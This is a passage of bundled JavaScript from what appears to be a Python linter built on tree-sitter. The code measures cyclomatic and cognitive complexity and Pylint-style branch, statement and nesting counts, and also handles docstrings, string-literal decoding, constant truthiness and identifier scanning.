                // An `else` of a `try` is no decision; of an `if` or a loop it is.
                const ofTry = node.parent?.type === 'try_statement';
                if (!ofTry)
                    total += 1;
                level = (c) => (c.type === 'block' && !ofTry ? nesting + 1 : nesting);
                break;
            }
            case 'match_statement':
            case 'conditional_expression':
                total += 1 + nesting;
                level = () => nesting + 1;
                break;
            case 'boolean_operator': {
                const parent = node.parent;
                if (!(parent?.type === 'boolean_operator' && booleanOperator(parent) === booleanOperator(node)))
                    total += 1;
                break;
            }
            case 'function_definition':
            case 'lambda':
                level = () => nesting + 1;
                break;
            case 'call': {
                const callee = node.childForFieldName('function');
                if (callee?.type === 'identifier' && !isMethod && callee.text === name)
                    total += 1;
                else if (callee?.type === 'attribute' && isMethod) {
                    const object = callee.childForFieldName('object');
                    const attr = callee.childForFieldName('attribute');
                    if (object?.type === 'identifier' && (object.text === 'self' || object.text === 'cls') && attr?.text === name)
                        total += 1;
                }
                break;
            }
            default:
                break;
        }
        for (const child of node.namedChildren)
            if (child)
                stack.push([child, level(child)]);
    }
    return total;
}
// ---------------------------------------------------------------------------------------------
// Pylint's design checker measures
// ---------------------------------------------------------------------------------------------
const IGNORED_ARGUMENT = /^_|^ignored_|^unused_/;
function argumentsOf(fn) {
    let count = 0;
    for (const p of named(fn.childForFieldName('parameters'))) {
        let nameNode = null;
        if (typeOf(p) === 'identifier')
            nameNode = p;
        else if (typeOf(p) === 'default_parameter' || typeOf(p) === 'typed_default_parameter')
            nameNode = p.childForFieldName('name');
        else if (typeOf(p) === 'typed_parameter') {
            const first = p.firstNamedChild;
            nameNode = first?.type === 'identifier' ? first : null; // `*args: int` / `**kw: int` are splats
        }
        if (nameNode && !IGNORED_ARGUMENT.test(nameNode.text))
            count += 1;
    }
    return count;
}
/** Nested blocks of a statement's clauses: the `block` children of the statement and its clauses. */
function innerBlocks(s) {
    const out = [];
    for (const c of named(s)) {
        if (typeOf(c) === 'block')
            out.push(c);
        else if (/_clause$/.test(typeOf(c))) {
            const b = blockOf(c);
            if (b)
                out.push(b);
        }
    }
    if (typeOf(s) === 'match_statement') {
        const body = s.childForFieldName('body');
        for (const c of body ? ofType(body, 'case_clause') : []) {
            const b = blockOf(c);
            if (b)
                out.push(b);
        }
    }
    return out;
}
/** `async for` / `async with`: Pylint's checkers have no visitor for these nodes. */
const isAsync = (s) => s.child(0)?.type === 'async';
/** A `try` with `except*` handlers (astroid's `TryStar`, which Pylint's checkers do not visit as a `try`). */
const isTryStar = (s) => handlersOf(s).some((h) => typeOf(h) === 'except_group_clause' || h.child(1)?.type === '*');
/** The statements of a block, comments left out. */
const statementsIn = (block) => named(block).filter((c) => typeOf(c) !== 'comment');
/** The `else` of an `if` holds one statement, an `if`: Pylint (astroid) sees the same tree as an `elif`. */
function elseIsIf(elseClause) {
    const inside = statementsIn(blockOf(elseClause));
    return inside.length === 1 && typeOf(inside[0]) === 'if_statement';
}
function isStatement(node) {
    const type = typeOf(node);
    return type.endsWith('_statement') || type === 'function_definition' || type === 'class_definition';
}
/** Parent of the statements of a block that is no nesting block (Pylint's nesting stack never holds it). */
const NO_BLOCK = -1;
/**
 * Pylint's R0912, R0915 and R1702 counts of one function, in one pass over its statements in
 * source order (the order Pylint's walker visits them):
 *
 * - branches and statements as the design checker counts them: an `if` node counts 1, plus 1 for
 *   an `else` unless the `else` holds only an `if` (an `elif` is an `if` node of its own); `for`
 *   and `while` count 1 and their `else` 1 as branches but nothing as statements; a `try` counts 1
 *   for each handler, for its `else` and for its `finally`, as branches and as statements, and
 *   each handler counts once more as a statement; `return`, the `def`/`class` lines and
 *   docstrings are no statements; `async for`, `async with`, `with`, `match` and a `try` with
 *   `except*` count 1 statement and no branch.
 * - nesting as the refactoring checker tracks it, with a stack of the open `if`/`elif`, `for`,
 *   `while` and `try` nodes: a block whose parent is on the stack goes one level deeper (an
 *   `elif` replaces its `if`); any other block (in a `with`, an `except` handler, a `match` case,
 *   an `async for`) starts the stack again at 1, and the end of a nested function empties it.
 */
function designOf(fn) {
    let branches = 0;
    let statements = 1;
    let nestedBlocks = 0;
    const stack = [];
    const nest = (id, parent, elif) => {
        stack.length = stack.lastIndexOf(parent) + 1;
        if (elif && stack.length > 0)
            stack.pop();
        stack.push(id);
        if (stack.length > nestedBlocks)
            nestedBlocks = stack.length;
    };
    const visitBody = (definition) => {
        const body = definition.childForFieldName('body');
        if (!body)
            return;
        const inside = statementsIn(body);
        visit((0, docstrings_1.docstringOf)(body) ? inside.slice(1) : inside, NO_BLOCK, true);
    };
    const visit = (list, parent, inNested) => {
        for (const child of list) {
            const s = typeOf(child) === 'decorated_definition' ? child.childForFieldName('definition') : child;
            if (!s || !isStatement(s))
                continue;
            const type = typeOf(s);
            let b = 0;
            if (type === 'function_definition') {
                // The nested body's statements count for the enclosing function; its branches and depth do
                // not, and Pylint's nesting stack is empty when it ends.
                visitBody(s);
                stack.length = 0;
                continue;
            }
            else if (type === 'class_definition') {
                visitBody(s);
                continue;
            }
            else if (type === 'if_statement') {
                const clauses = named(s);
                const elifs = clauses.filter((c) => typeOf(c) === 'elif_clause');
                const elseClause = clauses.find((c) => typeOf(c) === 'else_clause');
                b = 1 + elifs.length + (elseClause && !elseIsIf(elseClause) ? 1 : 0);
                statements += b;
                if (!inNested)
                    nest(s.id, parent, false);
                visit(statementsOf(s), s.id, inNested);
                let last = s.id;
                for (const elif of elifs) {
                    if (!inNested)
                        nest(elif.id, last, true);
                    visit(statementsOf(elif), elif.id, inNested);
                    last = elif.id;
                }
                if (elseClause)
                    visit(statementsOf(elseClause), last, inNested);
            }
            else if ((type === 'for_statement' || type === 'while_statement') && !isAsync(s)) {
                const elseClause = ofType(s, 'else_clause')[0];
                b = elseClause ? 2 : 1;
                if (!inNested)
                    nest(s.id, parent, false);
                visit(statementsOf(s), s.id, inNested);
                if (elseClause)
                    visit(statementsOf(elseClause), s.id, inNested);
            }
            else if (type === 'try_statement' && !isTryStar(s)) {
                const handlers = handlersOf(s);
                b = named(s).filter((c) => typeOf(c) === 'else_clause' || typeOf(c) === 'finally_clause').length + handlers.length;
                statements += b + handlers.length;
                if (!inNested)
                    nest(s.id, parent, false);
                for (const c of named(s)) {
                    if (typeOf(c) === 'block')
                        visit(named(c), s.id, inNested);
                    else if (typeOf(c) === 'except_clause' || typeOf(c) === 'except_group_clause')
                        visit(statementsOf(c), NO_BLOCK, inNested);
                    else if (typeOf(c) === 'else_clause' || typeOf(c) === 'finally_clause')
                        visit(statementsOf(c), s.id, inNested);
                }
            }
            else if (type === 'try_statement') {
                statements += 1 + handlersOf(s).length;
                for (const block of innerBlocks(s))
                    visit(named(block), NO_BLOCK, inNested);
            }
            else {
                if (type !== 'return_statement')
                    statements += 1;
                for (const block of innerBlocks(s))
                    visit(named(block), NO_BLOCK, inNested);
            }
            if (!inNested)
                branches += b;
        }
    };
    const body = fn.childForFieldName('body');
    if (body) {
        const inside = statementsIn(body);
        visit((0, docstrings_1.docstringOf)(body) ? inside.slice(1) : inside, NO_BLOCK, false);
    }
    return { branches, statements, nestedBlocks };
}
// ---------------------------------------------------------------------------------------------
// The analysis
// ---------------------------------------------------------------------------------------------
function isMethod(fn) {
    let parent = fn.parent;
    if (parent?.type === 'decorated_definition')
        parent = parent.parent;
    return parent?.type === 'block' && parent.parent?.type === 'class_definition';
}
/** Every metric but `cognitive` (0 here) of one function. */
function measureStatic(fn) {
    const nameNode = fn.childForFieldName('name');
    if (!nameNode)
        return undefined;
    const body = fn.childForFieldName('body');
    const metrics = {
        node: fn,
        nameNode,
        name: nameNode.text,
        cyclomatic: 1 + cyclomaticOf(named(body)),
        cognitive: 0,
        arguments: argumentsOf(fn),
        ...designOf(fn),
    };
    // Kept for one function only: objects that outlive it would cost the garbage collector more.
    memos.delete(fn.tree);
    return metrics;
}
/** All the metrics of one function, measured from its own subtree. */
function measureFunction(fn) {
    const method = isMethod(fn);
    const metrics = measureStatic(fn);
    if (metrics)
        metrics.cognitive = cognitiveOf(fn, metrics.name, method);
    return metrics;
}
/** Statements and clauses whose `block` child raises the cognitive nesting level. */
const NESTING_BLOCK_PARENTS = new Set(['if_statement', 'for_statement', 'while_statement', 'except_clause', 'except_group_clause']);
/**
 * Cognitive complexity of every function in the same walk (instead of one pass over each
 * function's subtree): the walk brings the nodes that count, in source order, and the nesting of
 * each follows from the open nodes around it, found by their ranges, since every type that can
 * hold a `block` is among the types visited (so a `block`'s innermost open node is its parent).
 * A node counts for every function whose body contains it, at its nesting below that body. A
 * tree with syntax errors (ERROR and zero-width MISSING nodes break the reasoning by ranges) is
 * measured function by function from the subtrees instead.
 */
exports.complexity = {
    name: 'complexity',
    create(context) {
        const functions = [];
        if (context.tree.rootNode.hasError) {
            return {
                function_definition(node) {
                    const metrics = measureFunction(node);
                    if (metrics)
                        functions.push(metrics);
                },
                end() {
                    context.setAnalysis('complexity', { functions });
                },
            };
        }
        const source = context.text;
        const open = [];
        const functionsOpen = [];
        const enter = (node) => {
            const type = node.type;
            const start = node.startIndex;
            const end = node.endIndex;
            while (open.length > 0) {
                const top = open[open.length - 1];
                if (top.start <= start && end <= top.end)
                    break;
                open.pop();
                if (top.fn)
                    functionsOpen.pop();
            }
            const parent = open.length > 0 ? open[open.length - 1] : undefined;
            const levels = parent ? parent.levels + parent.adds : 0;
            const frame = { node, type, start, end, levels, adds: 0 };
            open.push(frame);
            return frame;
        };
        /** Adds to every open function whose body holds `frame`: `fixed`, plus the nesting when `nested`. */
        const count = (frame, fixed, nested) => {
            for (const fn of functionsOpen) {
                if (frame.start < fn.bodyStart || frame.end > fn.bodyEnd)
                    continue;
                fn.metrics.cognitive += fixed + (nested ? frame.levels - fn.base : 0);
            }
        };
        const decision = (node) => void count(enter(node), 1, true);
        const visitor = {
            function_definition(node) {
                const frame = enter(node);
                frame.adds = 1;
                // A function's parent is a block or a decorated definition in one: a method when that block is a class body.
                const parent = open.length > 1 ? open[open.length - 2] : undefined;
                const method = parent?.type === 'block' && open.length > 2 && open[open.length - 3].type === 'class_definition';
                const metrics = measureStatic(node);
                if (!metrics)
                    return;
                functions.push(metrics);
                const body = node.childForFieldName('body');
                if (!body)
                    return;
                frame.fn = { metrics, method, bodyStart: body.startIndex, bodyEnd: body.endIndex, base: frame.levels + 1 };
                functionsOpen.push(frame.fn);
            },
            lambda(node) {
                enter(node).adds = 1;
            },
            block(node) {
                const frame = enter(node);
                const parent = open.length > 1 ? open[open.length - 2] : undefined;
                if (!parent)
                    return;
                if (NESTING_BLOCK_PARENTS.has(parent.type))
                    frame.adds = 1;
                else if (parent.type === 'elif_clause' || parent.type === 'else_clause') {
                    const grandparent = open.length > 2 ? open[open.length - 3] : undefined;
                    if (grandparent?.type !== 'try_statement')
                        frame.adds = 1;
                }
            },
            if_statement: decision,
            for_statement: decision,
            while_statement: decision,
            except_clause: decision,
            except_group_clause: decision,
            elif_clause(node) {
                count(enter(node), 1, false);
            },
            else_clause(node) {
                // An `else` of a `try` is no decision; of an `if` or a loop it is.
                const frame = enter(node);
                const parent = open.length > 1 ? open[open.length - 2] : undefined;
                if (parent?.type !== 'try_statement')
                    count(frame, 1, false);
            },
            match_statement(node) {
                const frame = enter(node);
                count(frame, 1, true);
                frame.adds = 1;
            },
            conditional_expression(node) {
                const frame = enter(node);
                count(frame, 1, true);
                frame.adds = 1;
            },
            boolean_operator(node) {
                // +1 for each sequence of like operators: not when the parent is a boolean operator with
                // the same operator (the parent, a visited type, would be the innermost open node; the
                // innermost one may also be an ancestor further up, with calls and other types between).
                const frame = enter(node);
                const around = open.length > 1 ? open[open.length - 2] : undefined;
                if (around?.type === 'boolean_operator' && node.parent?.id === around.node.id && booleanOperator(around.node) === booleanOperator(node))
                    return;
                count(frame, 1, false);
            },
            call(node) {
                // Calls raise no nesting and hold no block: they need no frame, and a call that starts
                // in a function's body is inside it (`functionsOpen` may still hold functions that ended).
                const start = node.startIndex;
                for (const fn of functionsOpen) {
                    if (start < fn.bodyStart || start >= fn.bodyEnd)
                        continue;
                    if (isRecursiveCall(node, start, fn.metrics.name, fn.method, source))
                        fn.metrics.cognitive += 1;
                }
            },
            end() {
                context.setAnalysis('complexity', { functions });
            },
        };
        for (const type of ['class_definition', 'try_statement', 'finally_clause', 'with_statement', 'case_clause']) {
            visitor[type] = enter;
        }
        return visitor;
    },
};
/** `f(...)` in `f`, or `self.m(...)`/`cls.m(...)` in method `m`. */
function isRecursiveCall(call, start, name, method, source) {
    if (!mayBeRecursive(start, name, method, source))
        return false;
    const callee = call.childForFieldName('function');
    if (callee?.type === 'identifier')
        return !method && callee.text === name;
    if (callee?.type === 'attribute' && method) {
        const object = callee.childForFieldName('object');
        const attr = callee.childForFieldName('attribute');
        return object?.type === 'identifier' && (object.text === 'self' || object.text === 'cls') && attr?.text === name;
    }
    return false;
}
const ASCII_NAME_CHAR = /[A-Za-z0-9_]/;
/**
 * False when the call's source text shows it is not `name(...)` (or, in a method,
 * `self.name(...)`/`cls.name(...)`); true when it may be. The callee starts where the call
 * starts, and an identifier followed by an ASCII name character is longer than the one written
 * before it. Unusual spacing (`self . name`) is left to the tree.
 */
function mayBeRecursive(start, name, method, source) {
    if (!method)
        return source.startsWith(name, start) && !ASCII_NAME_CHAR.test(source.charAt(start + name.length));
    let dot;
    if (source.startsWith('self', start))
        dot = start + 4;
    else if (source.startsWith('cls', start))
        dot = start + 3;
    else
        return false;
    const after = source.charAt(dot);
    if (after !== '.')
        return !ASCII_NAME_CHAR.test(after);
    const attribute = dot + 1;
    if (!ASCII_NAME_CHAR.test(source.charAt(attribute)))
        return true;
    return source.startsWith(name, attribute) && !ASCII_NAME_CHAR.test(source.charAt(attribute + name.length));
}


/***/ }),

/***/ 3520:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.docstringOf = docstringOf;
exports.definitionDocstring = definitionDocstring;
exports.isPrivateModulePath = isPrivateModulePath;
exports.isPackageInit = isPackageInit;
exports.decoratorNames = decoratorNames;
exports.isExemptFunction = isExemptFunction;
exports.definitionName = definitionName;
exports.moduleVisibility = moduleVisibility;
exports.isPublicDefinition = isPublicDefinition;
/** The string literal of a docstring, unwrapping parentheses; undefined when it is not one. */
function docstringLiteral(node) {
    let n = node;
    while (n?.type === 'parenthesized_expression' && n.namedChildCount === 1)
        n = n.firstNamedChild;
    if (!n)
        return undefined;
    const parts = n.type === 'concatenated_string' ? n.namedChildren.filter((c) => c?.type === 'string') : n.type === 'string' ? [n] : [];
    if (parts.length === 0)
        return undefined;
    for (const part of parts) {
        const prefix = part.firstNamedChild?.type === 'string_start' ? part.firstNamedChild.text : '';
        if (/[bBfFtT]/.test(prefix.replace(/['"]+$/, '')))
            return undefined;
    }
    return n;
}
/**
 * The docstring of a module node or of a class/function body (`block`). The scope builder asks
 * it for every scope: it makes no node for the comments it skips.
 */
function docstringOf(body) {
    if (!body)
        return undefined;
    const t = body.tree;
    for (let j = body.id + 1, stop = t.end[body.id]; j < stop; j = t.end[j]) {
        if (!t.isNamed(j))
            continue;
        const type = t.typeName(j);
        if (type === 'comment')
            continue;
        if (type !== 'expression_statement')
            return undefined;
        const statement = t.node(j);
        if (statement.namedChildCount !== 1)
            return undefined;
        return docstringLiteral(statement.firstNamedChild);
    }
    return undefined;
}
/** The docstring of a `class_definition` or `function_definition`. */
function definitionDocstring(definition) {
    return docstringOf(definition.childForFieldName('body'));
}
const isDunder = (name) => name.length > 4 && name.startsWith('__') && name.endsWith('__');
/** `_compat.py`, `_internal/x.py`: a path segment that starts with `_` and is not a dunder name. */
function isPrivateModulePath(path) {
    const segments = path.split('/').filter((s) => s && s !== '.' && s !== '..');
    return segments.some((segment) => {
        const name = segment.replace(/\.pyi?$/, '');
        return name.startsWith('_') && !isDunder(name);
    });
}
function isPackageInit(path) {
    return /(^|\/)__init__\.pyi?$/.test(path);
}
/** The decorators written on a definition (`@x.setter` gives `x.setter`), without arguments. */
function decoratorNames(definition) {
    const parent = definition.parent;
    if (parent?.type !== 'decorated_definition')
        return [];
    const out = [];
    for (const child of parent.namedChildren) {
        if (child?.type !== 'decorator')
            continue;
        let expr = child.firstNamedChild;
        if (expr?.type === 'call')
            expr = expr.childForFieldName('function');
        if (expr)
            out.push(expr.text.replace(/\s+/g, ''));
    }
    return out;
}
/** `@overload`, `@override`, `@prop.setter`, `@prop.deleter` (any module prefix). */
function isExemptFunction(definition) {
    return decoratorNames(definition).some((d) => {
        const last = d.split('.').pop();
        if (last === 'overload' || last === 'override')
            return true;
        return d.includes('.') && (last === 'setter' || last === 'deleter');
    });
}
function definitionName(scope) {
    return scope.node.childForFieldName('name')?.text ?? '';
}
function moduleVisibility(model, path) {
    const hasAll = model.module.bindings.some((b) => b.name === '__all__');
    return {
        privateModule: isPrivateModulePath(path),
        exported: hasAll ? new Set(model.exports.map((e) => e.name)) : undefined,
    };
}
/** pydocstyle's public-ness of a class or function scope (see the file comment). */
function isPublicDefinition(scope, visibility) {
    if (visibility.privateModule)
        return false;
    const name = definitionName(scope);
    const parent = scope.parent;
    if (!parent)
        return false;
    if (scope.kind === 'function' && isExemptFunction(scope.node))
        return false;
    if (parent.kind === 'module') {
        if (name.startsWith('_'))
            return false;
        return visibility.exported ? visibility.exported.has(name) : true;
    }
    if (parent.kind === 'class') {
        if (!isPublicDefinition(parent, visibility))
            return false;
        if (scope.kind === 'class')
            return !name.startsWith('_');
        return !name.startsWith('_') || isDunder(name);
    }
    return false;
}


/***/ }),

/***/ 8436:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.namedChildrenOf = namedChildrenOf;
exports.unparenthesize = unparenthesize;
exports.stringLiteralValue = stringLiteralValue;
exports.isPlainStringLiteral = isPlainStringLiteral;
exports.integerValue = integerValue;
exports.truthiness = truthiness;
exports.isTruthyConstant = isTruthyConstant;
exports.isFalsyConstant = isFalsyConstant;
/** Named children of a node, without comments (tree-sitter keeps comments as named nodes). */
function namedChildrenOf(node) {
    const out = [];
    for (const child of node.namedChildren)
        if (child && child.type !== 'comment')
            out.push(child);
    return out;
}
/** Strips redundant parentheses: `(("x"))` -> `"x"`. */
function unparenthesize(node) {
    let current = node;
    while (current.type === 'parenthesized_expression') {
        const inner = namedChildrenOf(current);
        if (inner.length !== 1)
            break;
        current = inner[0];
    }
    return current;
}
// ---------------------------------------------------------------------------------------------
// Strings
const SIMPLE_ESCAPES = {
    '\\': '\\',
    "'": "'",
    '"': '"',
    a: '\x07',
    b: '\b',
    f: '\f',
    n: '\n',
    r: '\r',
    t: '\t',
    v: '\v',
};
/** Decodes the backslash escapes of a non-raw Python string body (unknown escapes stay as written). */
function decodeEscapes(body, bytes) {
    return body.replace(/\\(\r\n|\n|x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|[0-7]{1,3}|.)/gs, (whole, esc) => {
        if (esc === '\n' || esc === '\r\n')
            return '';
        if (esc in SIMPLE_ESCAPES)
            return SIMPLE_ESCAPES[esc];
        if (/^[0-7]/.test(esc))
            return String.fromCharCode(parseInt(esc, 8));
        if (esc[0] === 'x')
            return String.fromCharCode(parseInt(esc.slice(1), 16));
        if (!bytes && (esc[0] === 'u' || esc[0] === 'U')) {
            const code = parseInt(esc.slice(1), 16);
            return code <= 0x10ffff ? String.fromCodePoint(code) : whole;
        }
        return whole;
    });
}
/**
 * Value of one `string` node with no interpolation; undefined for f-string fields, t-strings,
 * bytes and f-strings (unless accepted).
 */
function singleStringValue(node, kinds) {
    const children = node.namedChildren;
    const types = children.map((c) => c?.type);
    const start = children[types.indexOf('string_start')];
    const end = children[types.indexOf('string_end')];
    if (!start || !end)
        return undefined;
    const prefix = start.text.replace(/['"]+$/, '').toLowerCase();
    if (prefix.includes('t'))
        return undefined; // template strings (3.14) are not str
    const bytes = prefix.includes('b');
    if (bytes && !kinds.bytes)
        return undefined;
    const fString = prefix.includes('f');
    if (fString && !kinds.fStrings)
        return undefined;
    if (types.includes('interpolation'))
        return undefined;
    let body = node.text.slice(start.endIndex - node.startIndex, end.startIndex - node.startIndex);
    if (!prefix.includes('r'))
        body = decodeEscapes(body, bytes);
    if (fString)
        body = body.replace(/\{\{/g, '{').replace(/\}\}/g, '}');
    return body;
}
/**
 * The accepted kinds by option, each with the key of its cache on the tree (`SyntaxTree.memo`) of
 * literal values (undefined: not a plain literal).
 */
const STRINGS = { bytes: false, fStrings: true };
const STRINGS_AND_BYTES = { bytes: true, fStrings: true };
const NO_F_STRINGS = { bytes: false, fStrings: false };
const NO_F_STRINGS_AND_BYTES = { bytes: true, fStrings: false };
/**
 * The value of a string literal with no interpolation: a plain or raw string, an f-string
 * without fields, or a concatenation of such strings (implicit `"a" "b"`, or `"a" + "b"`), in
 * parentheses or not. Bytes literals count only with `allowBytes`, f-strings not with
 * `allowFStrings: false`. Undefined for anything else.
 */
function stringLiteralValue(node, options = {}) {
    const kinds = (options.allowFStrings ?? true) ? (options.allowBytes ? STRINGS_AND_BYTES : STRINGS) : options.allowBytes ? NO_F_STRINGS_AND_BYTES : NO_F_STRINGS;
    // Several rules ask for the value of the same node (each string the walk visits).
    const cache = node.tree.memo(kinds);
    if (cache.has(node.id))
        return cache.get(node.id);
    const value = literalValue(node, kinds, options);
    cache.set(node.id, value);
    return value;
}
function literalValue(node, kinds, options) {
    const expr = unparenthesize(node);
    switch (expr.type) {
        case 'string':
            return singleStringValue(expr, kinds);
        case 'concatenated_string': {
            let value = '';
            for (const part of namedChildrenOf(expr)) {
                const piece = part.type === 'string' ? singleStringValue(part, kinds) : undefined;
                if (piece === undefined)
                    return undefined;
                value += piece;
            }
            return value;
        }
        case 'binary_operator': {
            // `a + b + c` nests to the left: walk down the left spine instead of recursing, so a
            // concatenation of any length cannot overflow the stack.
            const rights = [];
            let current = expr;
            while (current.type === 'binary_operator') {
                if (current.childForFieldName('operator')?.type !== '+')
                    return undefined;
                const left = current.childForFieldName('left');
                const right = current.childForFieldName('right');
                if (!left || !right)
                    return undefined;
                rights.push(right);
                current = unparenthesize(left);
            }
            let value = stringLiteralValue(current, options);
            for (let i = rights.length - 1; i >= 0 && value !== undefined; i--) {
                const piece = stringLiteralValue(rights[i], options);
                value = piece === undefined ? undefined : value + piece;
            }
            return value;
        }
        default:
            return undefined;
    }
}
/** True when `node` is a string literal with no interpolation (see `stringLiteralValue`). */
function isPlainStringLiteral(node, options = {}) {
    return stringLiteralValue(node, options) !== undefined;
}
// ---------------------------------------------------------------------------------------------
// Numbers
/** Whether a numeric literal's value is non-zero (handles `0x0`, `0.0e5`, `0j`, `1_000`). */
function numberIsNonZero(text) {
    let t = text.replace(/_/g, '').toLowerCase();
    if (t.endsWith('j') || t.endsWith('l'))
        t = t.slice(0, -1);
    if (t.startsWith('0x'))
        return /[1-9a-f]/.test(t.slice(2));
    if (t.startsWith('0o') || t.startsWith('0b'))
        return /[1-9]/.test(t.slice(2));
    const mantissa = t.split('e')[0];
    return /[1-9]/.test(mantissa);
}
/**
 * The value of an integer literal, parentheses allowed: decimal, `0x`, `0o` and `0b` forms with
 * `_` separators. Undefined for anything else (imaginary `2j`, Python 2 `10L`, signs, names).
 * Values from 2**53 on are not exact (JavaScript numbers).
 */
function integerValue(node) {
    const expr = unparenthesize(node);
    if (expr.type !== 'integer')
        return undefined;
    const t = expr.text.replace(/_/g, '').toLowerCase();
    if (t.endsWith('j') || t.endsWith('l'))
        return undefined;
    const v = t.startsWith('0o')
        ? parseInt(t.slice(2), 8)
        : t.startsWith('0x')
            ? parseInt(t.slice(2), 16)
            : t.startsWith('0b')
                ? parseInt(t.slice(2), 2)
                : Number(t);
    return Number.isFinite(v) ? v : undefined;
}
// ---------------------------------------------------------------------------------------------
// Truth values
/** Truth value of a `string` node: non-empty literal text makes it true whatever its fields. */
function stringTruthiness(node) {
    const plain = singleStringValue(node, { bytes: true, fStrings: true });
    if (plain !== undefined)
        return plain.length > 0;
    const start = node.namedChildren.find((c) => c?.type === 'string_start');
    if (start &&
        start.text
            .replace(/['"]+$/, '')
            .toLowerCase()
            .includes('t'))
        return true; // a Template object
    if (node.namedChildren.some((c) => c?.type === 'string_content' && c.text.length > 0))
        return true;
    return undefined;
}
/**
 * The truth value of a constant expression, when it is known without running anything: `True`,
 * non-zero numbers, non-empty strings and non-empty `[...]`, `(...)`, `{...}` displays, `...`,
 * lambdas are true; `False`, `None`, zero, empty strings and empty displays are false; `not`
 * and unary `+`/`-` are followed. Anything else (names, calls, comparisons, displays made only
 * of `*x` splats) is undefined.
 */
function truthiness(node) {
    const expr = unparenthesize(node);
    switch (expr.type) {
        case 'true':
        case 'ellipsis':
        case 'lambda':
            return true;
        case 'false':
        case 'none':
            return false;
        case 'integer':
        case 'float':
            return numberIsNonZero(expr.text);
        case 'string':
            return stringTruthiness(expr);
        case 'concatenated_string': {
            let all = false;
            for (const part of namedChildrenOf(expr)) {
                const value = part.type === 'string' ? stringTruthiness(part) : undefined;
                if (value === true)
                    return true;
                if (value === undefined)
                    all = undefined;
            }
            return all;
        }
        case 'list':
        case 'tuple':
        case 'set':
        case 'dictionary': {
            const items = namedChildrenOf(expr);
            if (items.length === 0)
                return false;
            // `[*a]` or `{**a}` may be empty; one ordinary element makes the display non-empty.
            return items.some((item) => item.type !== 'list_splat' && item.type !== 'dictionary_splat') ? true : undefined;
        }
        case 'not_operator': {
            const argument = expr.childForFieldName('argument');
            const value = argument ? truthiness(argument) : undefined;
            return value === undefined ? undefined : !value;
        }
        case 'unary_operator': {
            const operator = expr.childForFieldName('operator')?.type;
            const argument = expr.childForFieldName('argument');
            if ((operator !== '-' && operator !== '+') || !argument)
                return undefined;
            const inner = unparenthesize(argument);
            return inner.type === 'integer' || inner.type === 'float' || inner.type === 'unary_operator' ? truthiness(inner) : undefined;
        }
        default:
            return undefined;
    }
}
/** True when the node is a constant known to be true (`True`, `1`, `"x"`, `[0]`, ...). */
function isTruthyConstant(node) {
    return truthiness(node) === true;
}
/** True when the node is a constant known to be false (`False`, `None`, `0`, `""`, `[]`, ...). */
function isFalsyConstant(node) {
    return truthiness(node) === false;
}


/***/ }),

/***/ 5166:
/***/ ((__unused_webpack_module, exports) => {


/**
 * Reading a name, or a dotted chain of names, straight from the source text at a node's start.
 * The analyses do this for every identifier and call, so the common case (ASCII names) is a
 * character loop that allocates nothing but the name; a non-ASCII character hands over to the
 * regular expression, which knows Unicode's identifier characters.
 */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.nameAt = nameAt;
exports.asciiIdentifierAt = asciiIdentifierAt;
exports.chainAt = chainAt;
/** A name as Python writes it (Unicode letters, digits, underscore). */
const NAME = /[\p{ID_Continue}]+/uy;
/** A dotted chain of names followed by `(` or `[`: the callee of a call, the base of a subscript. */
const CHAIN = /((?:[\p{ID_Continue}]+[ \t]*\.[ \t]*)*)([\p{ID_Continue}]+)[ \t]*([([])/uy;
/** An ASCII letter, digit or underscore. */
function isAsciiNameChar(c) {
    return (c >= 0x61 && c <= 0x7a) || (c >= 0x41 && c <= 0x5a) || (c >= 0x30 && c <= 0x39) || c === 0x5f;
}
/**
 * Where the run of name characters from `index` ends, or -1 when a non-ASCII character is met
 * (the caller then asks the regular expression).
 */
function asciiNameEnd(text, index) {
    let i = index;
    for (; i < text.length; i++) {
        const c = text.charCodeAt(i);
        if (c >= 0x80)
            return -1;
        if (!isAsciiNameChar(c))
            break;
    }
    return i;
}
/** The name that starts at `index` (`/[\p{ID_Continue}]+/` there), or undefined. */
function nameAt(text, index) {
    const end = asciiNameEnd(text, index);
    if (end < 0) {
        NAME.lastIndex = index;
        return NAME.exec(text)?.[0];
    }
    return end > index ? text.slice(index, end) : undefined;
}
/** An ASCII identifier (`[A-Za-z_][A-Za-z0-9_]*`) at `index`, or undefined. */
function asciiIdentifierAt(text, index) {
    const first = index < text.length ? text.charCodeAt(index) : -1;
    if (!(first === 0x5f || (first >= 0x61 && first <= 0x7a) || (first >= 0x41 && first <= 0x5a)))
        return undefined;
    let i = index + 1;
    while (i < text.length && isAsciiNameChar(text.charCodeAt(i)))
        i++;
    return text.slice(index, i);
}
/**
 * The dotted chain of names before the `(` of a call or the `[` of a subscript at `index`
 * (`a . b (`: blanks allowed around dots and before the bracket), or undefined when the text
 * there is not such a chain followed by `bracket`. The same answer as the regular expression
 * CHAIN: names are maximal runs, so the chain reads in one pass without backtracking.
 */
function chainAt(text, index, bracket) {
    let i = index;
    let dotted = false;
    for (;;) {
        const nameStart = i;
        const nameEnd = asciiNameEnd(text, i);
        if (nameEnd < 0)
            return chainByExpression(text, index, bracket);
        if (nameEnd === nameStart)
            return undefined;
        i = nameEnd;
        while (i < text.length && (text.charCodeAt(i) === 0x20 || text.charCodeAt(i) === 0x09))
            i++;
        const c = i < text.length ? text.charCodeAt(i) : -1;
        if (c === 0x2e) {
            dotted = true;
            i++;
            while (i < text.length && (text.charCodeAt(i) === 0x20 || text.charCodeAt(i) === 0x09))
                i++;
            continue;
        }
        if (c === 0x28 || c === 0x5b) {
            return c === bracket.charCodeAt(0) ? { dotted, last: text.slice(nameStart, nameEnd) } : undefined;
        }
        return undefined;
    }
}
function chainByExpression(text, index, bracket) {
    CHAIN.lastIndex = index;
    const match = CHAIN.exec(text);
    if (!match || match[3] !== bracket)
        return undefined;
    return { dotted: match[1] !== '', last: match[2] };
}


/***/ }),

/***/ 1500:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.ScopeBuilder = exports.Reads = exports.BindingRecord = void 0;
const names_1 = __nccwpck_require__(5166);
const literals_1 = __nccwpck_require__(8436);
const docstrings_1 = __nccwpck_require__(3520);
const annotations_1 = __nccwpck_require__(6016);
